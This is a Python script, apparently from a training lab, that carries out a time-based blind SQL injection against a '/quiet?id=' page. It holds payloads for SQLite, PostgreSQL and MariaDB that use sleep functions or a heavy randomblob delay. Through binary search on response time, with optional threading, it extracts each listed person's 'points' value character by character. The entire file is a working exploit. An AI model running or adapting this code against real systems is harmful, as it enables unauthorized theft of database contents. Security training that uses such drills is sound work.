"""Time alone: `/quiet` answers after two seconds or at once, and the script looks at its watch in whole seconds.

Halving with `>`, then the letter is confirmed by `!=`, where an answer at once means yes; a confirmation that fails
makes it ask the letter again. Behind the last letter the code is 0. With threads every letter has one of its own.
"""

import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial

from drills.laboratory.scripts.client import Client
from drills.laboratory.truth import Cell

_PAGE = "/quiet?id="
_DELAY_SECONDS = 2
_TEXT = {"sqlite": "text", "postgresql": "text", "mariadb": "char"}
_CODE = {"sqlite": "coalesce(unicode(substr({},{},1)),0)", "postgresql": "ascii(substr({},{},1))",
         "mariadb": "ascii(substr({},{},1))"}  # fmt: skip
_SLEEP = {
    "sqlite": "3 and case when ({}) then like('x',upper(hex(randomblob(300000000/2)))) else 1 end",
    "postgresql": "3 and 1=(case when ({}) then (select 1 from pg_sleep(2)) else 1 end)",
    "mariadb": "3 and if(({}),sleep(2),0)",
}


def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...], threads: int = 1) -> list[Cell]:
    """The points of `persons` (ids), digit by digit, or `threads` digits at the same time."""
    client = Client(site, source_address)

    def holds(condition: str) -> bool:
        began = time.monotonic()
        client.get(_PAGE, _SLEEP[dbms].format(condition))
        return time.monotonic() - began >= _DELAY_SECONDS - 1

    cells = []
    for person in persons:
        secret = f"(select cast(points as {_TEXT[dbms]}) from person where id={person})"
        value = ""
        with ThreadPoolExecutor(threads) as pool:
            while True:
                codes = [_CODE[dbms].format(secret, len(value) + number) for number in range(1, threads + 1)]
                letters = "".join(pool.map(partial(_letter, holds), codes))
                value += letters
                if len(letters) < threads:
                    break
        cells.append(Cell("person", "points", None, value))
    return cells


def _letter(holds: Callable[[str], bool], code: str) -> str:
    while True:
        low, high = 0, 63
        while low < high:
            middle = (low + high) // 2
            low, high = (middle + 1, high) if holds(f"{code}>{middle}") else (low, middle)
        if not holds(f"{code}!={low}"):
            return chr(low) if low else ""
